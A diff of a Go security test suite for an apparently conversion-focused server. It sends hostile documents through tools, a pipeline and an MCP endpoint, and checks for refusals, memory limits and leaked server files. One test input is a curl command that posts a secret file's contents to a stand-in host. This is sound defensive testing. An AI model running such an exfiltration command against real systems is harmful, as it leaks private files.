@@ -9,95 +9,76 @@ import (
 	"strings"
 	"sync/atomic"
 	"testing"
-	"time"
-
-	"github.com/convertd/convertd/test/daemon"
 )
 
-// TestDocuments sends each hostile document to its tool, through the pipeline
-// and, where agents are served, through MCP.
+// TestDocuments sends each hostile document to its tool, through the pipeline and
+// through MCP.
 // Rules: ANS-6, ANS-7.
 func TestDocuments(t *testing.T) {
-	daemon.SecondTier(t)
-	s := attack(t, "--rate-limit=0", "--exec-timeout=60s")
+	s := attack(t, "--rate-limit=0", "--exec-timeout=5m")
 	listener := watch(t)
-	mcp := s.hasMCP(t)
-	described := map[string]bool{}
-	for _, d := range documents(listener.address) {
-		if known, asked := described[d.tool]; !asked {
-			described[d.tool] = s.describes(t, "/v1/tools/"+d.tool)
-			if !described[d.tool] {
-				t.Logf("%s is not served; its documents are not sent", d.tool)
-				continue
-			}
-		} else if !known {
+	for i, d := range documents(listener.address) {
+		if testing.Short() && i%8 != 0 {
 			continue
 		}
-		t.Run(d.tool+"/"+d.name, func(t *testing.T) { s.sendDocument(t, d, mcp) })
+		t.Run(d.tool+"/"+d.name, func(t *testing.T) { s.sendDocument(t, d) })
 	}
-	s.memoryIsBack(t)
+	s.releasesMemory(t)
 	if n := listener.connections.Load(); n != 0 {
 		t.Errorf("something connected to the address in a document, %d times", n)
 	}
 }
 
-func (s *target) sendDocument(t *testing.T, d document, mcp bool) {
+func (s *target) sendDocument(t *testing.T, d document) {
 	value := d.value()
 	if d.options == "" {
 		d.options = "{}"
 	}
 	if room := 1<<20 - len(toolBody(d.mediaType, "", d.options)); len(quote(value))-2 > room {
-		t.Fatalf("the document has %d bytes more than a request may", len(quote(value))-2-room)
+		t.Fatalf("the document is %d bytes too long for a request", len(quote(value))-2-room)
 	}
-	single := s.measured(t, func() answer { return s.post(t, "/v1/tools/"+d.tool, toolBody(d.mediaType, value, d.options)) })
+	single := s.fire(t, "/v1/tools/"+d.tool, toolBody(d.mediaType, value, d.options))
 	if d.want != 0 && single.status != d.want {
 		t.Errorf("status %d, want %d: %.300s", single.status, d.want, single.body)
 	}
 	step := `,"steps":[{"id":"a","tool":"` + d.tool + `","options":` + d.options + `}]}`
-	chain := `{"version":1,"input":{"mediaType":"` + d.mediaType + `","value":` + quote(value) + `}` + step
-	if len(chain) <= 1<<20 {
-		s.measured(t, func() answer { return s.post(t, "/v1/pipeline", chain) })
-	}
-	call := `{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"` + d.tool + `","arguments":` + toolBody(d.mediaType, value, d.options) + `}}`
-	if mcp && len(call) <= 1<<20 {
-		s.measured(t, func() answer {
-			return s.post(t, "/mcp", call, "Accept", "application/json, text/event-stream", "MCP-Protocol-Version", "2025-06-18")
-		})
+	for path, body := range map[string]string{
+		"/v1/pipeline": `{"version":1,"input":{"mediaType":"` + d.mediaType + `","value":` + quote(value) + `}` + step,
+		"/mcp":         toolCall(d.tool, toolBody(d.mediaType, value, d.options)),
+	} {
+		if len(body) <= 1<<20 {
+			s.fire(t, path, body, "Accept", "application/json, text/event-stream", "MCP-Protocol-Version", "2025-06-18")
+		}
 	}
 	s.unharmed(t)
 }
 
-// measured makes one hostile call: refused well or converted, in time, in
-// little memory. On a busy machine the processor time it used counts where the
-// clock says more.
-func (s *target) measured(t *testing.T, call func() answer) answer {
+// fire makes one hostile call, which must be refused or converted within the bounds of
+// counted.
+func (s *target) fire(t *testing.T, path, body string, headers ...string) response {
 	t.Helper()
-	got := s.measuredAny(t, call)
+	got := s.counted(t, path, body, headers...)
 	if got.status != http.StatusOK {
-		refusedWell(t, got)
+		checkRefusal(t, got)
 	} else if bytes.Contains(got.body, []byte("root:x:0")) {
-		t.Error("the answer holds a file of the server")
+		t.Error("the response contains a file of the server")
 	}
 	return got
 }
 
-// measuredAny is measured without a look at the answer.
-func (s *target) measuredAny(t *testing.T, call func() answer) answer {
+// counted makes one call that may allocate and hold no more than any call may.
+func (s *target) counted(t *testing.T, path, body string, headers ...string) response {
 	t.Helper()
-	s.ResetPeak()
-	before, start := s.Processor(t), time.Now()
-	got := call()
-	took := min(time.Since(start), s.Processor(t)-before+10*time.Millisecond)
-	if took > callTime {
-		t.Errorf("took %v", took)
+	before := s.Allocated(t)
+	got := s.post(t, path, body, headers...)
+	if allocated := s.Allocated(t) - before; allocated > maxAllocated {
+		t.Errorf("allocated %d MiB", allocated>>20)
 	}
-	if peak := s.Peak(t); peak > callMemory {
-		t.Errorf("held %d MiB", peak>>20)
-	}
+	s.checkHeld(t)
 	return got
 }
 
-// watched is a listener that nothing may connect to.
+// watched is a listener that nothing should connect to.
 type watched struct {
 	address     string
 	connections atomic.Int64
@@ -124,9 +105,9 @@ func watch(t *testing.T) *watched {
 	return w
 }
 
-// TestBlowUps: pipelines that would multiply their input are cut.
+// TestBlowUps: pipelines that would multiply their input are refused.
 func TestBlowUps(t *testing.T) {
-	s := attack(t, "--rate-limit=0", "--exec-timeout=60s")
+	s := attack(t, "--rate-limit=0", "--exec-timeout=5m")
 	wide := "[" + strings.Repeat("[],", 150_000) + "[]]"
 	deep := strings.Repeat("[", 200) + strings.Repeat("1,", 1000) + "1" + strings.Repeat("]", 200)
 	for name, test := range map[string]struct {
@@ -146,7 +127,7 @@ func TestBlowUps(t *testing.T) {
 			}
 			body := `{"version":1,"input":{"mediaType":"application/json","value":` + quote(test.value) +
 				`},"steps":[` + strings.Join(steps, ",") + `],"returnStepIds":[` + strings.Join(ids, ",") + `]}`
-			if got := s.measured(t, func() answer { return s.post(t, "/v1/pipeline", body) }); got.status != test.want {
+			if got := s.fire(t, "/v1/pipeline", body); got.status != test.want {
 				t.Errorf("status %d, want %d: %.300s", got.status, test.want, got.body)
 			}
 			s.unharmed(t)
@@ -165,21 +146,17 @@ func TestBlowUps(t *testing.T) {
 			`{` + strings.Repeat(`"`+marker+`":1,`, 40_000) + `"x":1}`,
 		} {
 			for _, path := range []string{"/v1/pipeline", "/v1/tools/json_format"} {
-				refusedWell(t, s.measured(t, func() answer { return s.post(t, path, body) }))
+				checkRefusal(t, s.fire(t, path, body))
 			}
 		}
 		s.unharmed(t)
 	})
-	s.memoryIsBack(t)
+	s.releasesMemory(t)
 }
 
-// TestFilesOfTheServer: the binary opens no file that an input names. The
-// named pipe would hold whoever opens it.
+// TestFilesOfTheServer: the server opens no file that an input names.
 func TestFilesOfTheServer(t *testing.T) {
 	s := attack(t, "--rate-limit=0")
-	if !s.describes(t, "/v1/tools/api_convert") {
-		t.Fatal("api_convert is not served")
-	}
 	secret := t.TempDir() + "/secret"
 	if err := os.WriteFile(secret, []byte("root:x:0 secret of the server"), 0o600); err != nil {
 		t.Fatal(err)
@@ -195,9 +172,7 @@ func TestFilesOfTheServer(t *testing.T) {
 		"curl https://a.example -d \"$(<" + secret + ")\" < " + secret,
 	} {
 		for _, target := range []string{"openapi-3.1-json", "postman-2.1", "curl"} {
-			s.measured(t, func() answer {
-				return s.post(t, "/v1/tools/api_convert", toolBody("text/plain", text, `{"target":"`+target+`"}`))
-			})
+			s.fire(t, "/v1/tools/api_convert", toolBody("text/plain", text, `{"target":"`+target+`"}`))
 		}
 	}
 	s.unharmed(t)
